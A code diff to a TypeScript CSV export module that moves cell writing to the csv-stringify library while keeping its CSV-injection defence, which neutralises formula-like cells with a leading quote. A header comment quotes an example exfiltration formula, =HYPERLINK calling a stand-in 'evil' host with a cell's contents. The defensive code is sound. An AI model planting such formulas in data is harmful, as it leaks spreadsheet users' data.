@@ -1,12 +1,15 @@
 // Writing CSV (RFC 4180) for people to open in a spreadsheet: the one cell writer of every export,
 // the server's and the workspace's "Download CSV" (web/src/components/csv-export.tsx imports it).
-// Pure, no imports, so the browser bundle can take it as it is.
+// Browser-safe: csv-stringify's sync writer is plain JavaScript (listed in .dependency-cruiser.cjs).
 //
 // CSV injection (issue 36 item 13, OWASP "CSV Injection"): a spreadsheet runs a cell that starts
 // with = + - @ (or a tab or carriage return before one) as a formula, so a contact named
 // =HYPERLINK("http://evil/?"&A1) becomes a live link that sends the row away. Such a cell is written
 // with a single quote in front, which the spreadsheet shows as text, and quoted. A plain number
 // (-5, +3.5, -12%) cannot be a formula and is written as it is, so the figures stay figures.
+// (csv-stringify's own escape_formulas is not used: it would write -5 as '-5, and it misses the
+// full-width forms.)
+import { stringify } from "csv-stringify/sync";
 
 export type CsvValue = string | number | boolean | null | undefined;
 
@@ -19,19 +22,34 @@ export function isFormulaLike(s: string): boolean {
   return FORMULA_START.test(s) && !PLAIN_NUMBER.test(s);
 }
 
+const text = (v: CsvValue) => (v === null || v === undefined ? "" : String(v));
+/** A formula-like cell as text: a leading quote (csv-stringify then quotes the cell it must). */
+const neutral = (s: string) => (isFormulaLike(s) ? `'${s}` : s);
+
 /** RFC 4180 quoting only: quoted when it holds a comma, a quote or a line break; quotes doubled. */
 export function quoteCsvField(s: string): string {
-  return /[",\r\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;
+  return stringify([[s]], { record_delimiter: "unix", eof: false });
 }
 
 /** One exported cell: formula-like text neutralised (a leading ' and quoted), then RFC 4180 quoting. */
 export function csvCell(v: CsvValue): string {
-  const s = v === null || v === undefined ? "" : String(v);
-  if (isFormulaLike(s)) return `"'${s.replaceAll('"', '""')}"`;
-  return quoteCsvField(s);
+  return stringify([[neutral(text(v))]], { quoted_match: /^'/, eof: false });
 }
 
-/** A whole export: the header row, then the rows, CRLF line ends (RFC 4180). */
-export function toCsv(header: readonly CsvValue[], rows: readonly (readonly CsvValue[])[]): string {
-  return `${[header, ...rows].map((r) => r.map(csvCell).join(",")).join("\r\n")}\r\n`;
+/**
+ * A whole export: the header row, then the rows, CRLF line ends (RFC 4180), every formula-like cell
+ * neutralised. `delimiter: ";"` writes what Excel in de/fr/nl opens as columns.
+ */
+export function toCsv(
+  header: readonly CsvValue[],
+  rows: readonly (readonly CsvValue[])[],
+  { delimiter = "," }: { delimiter?: "," | ";" | "\t" } = {},
+): string {
+  const records = [header, ...rows].map((r) => r.map((v) => neutral(text(v))));
+  return stringify(records, {
+    delimiter,
+    record_delimiter: "windows",
+    // a neutralised cell is quoted like the hand-written writer did, so the quote reads as text
+    quoted_match: /^'/,
+  });
 }
